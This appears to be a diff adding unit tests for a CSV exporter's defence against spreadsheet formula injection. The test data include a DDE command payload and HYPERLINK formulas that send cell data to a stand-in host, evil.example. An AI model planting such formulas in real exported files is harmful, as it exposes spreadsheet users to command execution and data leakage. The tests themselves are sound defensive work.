@@ -23,6 +23,33 @@ describe('CSV fields (RFC 4180)', () => {
   });
 });
 
+describe('CSV fields that a spreadsheet would run as formulas (OWASP CSV injection)', () => {
+  it.each([
+    ['a formula', '=1+1', `"'=1+1"`],
+    ['a command through DDE', `=cmd|' /C calc'!A0`, `"'=cmd|' /C calc'!A0"`],
+    [
+      'a hyperlink that leaks data',
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
+    ],
+    ['a leading plus', '+1+cmd|calc', `"'+1+cmd|calc"`],
+    ['a leading minus', '-2+3', `"'-2+3"`],
+    ['a leading at sign', '@SUM(1,2)', `"'@SUM(1,2)"`],
+    ['a leading tab', '\t=1', `"'\t=1"`],
+    ['a leading carriage return', '\r=1', `"'\r=1"`],
+  ])('%s gets a leading apostrophe and quotes', (_name, value, expected) => {
+    expect(csvField(value)).toBe(expected);
+  });
+
+  it.each([
+    ['an e-mail address', 'ana@example.com'],
+    ['an equals sign inside', 'a=b'],
+    ['a minus inside', 'kb-2024'],
+  ])('%s is left as it is', (_name, value) => {
+    expect(csvField(value)).toBe(value);
+  });
+});
+
 describe('CSV file', () => {
   const row = (over: Partial<AuditEventRow>): AuditEventRow => ({
     id: 'e1',
@@ -48,6 +75,19 @@ describe('CSV file', () => {
       [row({ details: '{"note":"two\nlines","ip":"192.0.2.1"}' })],
       'time,user,tenant,action,details\r\n' +
         '2024-05-01T09:30:05.120Z,u1,t1,KB_UPDATE,"{""note"":""two\nlines"",""ip"":""192.0.2.1""}"\r\n',
+    ],
+    [
+      'hostile user, tenant, action and details neutralised in every column',
+      [
+        row({
+          user: '@evil.example',
+          tenant: '-1+1',
+          action: '+KB_CREATE',
+          details: '=HYPERLINK("http://evil.example","x")',
+        }),
+      ],
+      'time,user,tenant,action,details\r\n' +
+        `2024-05-01T09:30:05.120Z,"'@evil.example","'-1+1","'+KB_CREATE","'=HYPERLINK(""http://evil.example"",""x"")"\r\n`,
     ],
   ])('%s', (_name, rows, expected) => {
     expect(toCsv(rows)).toBe(expected);
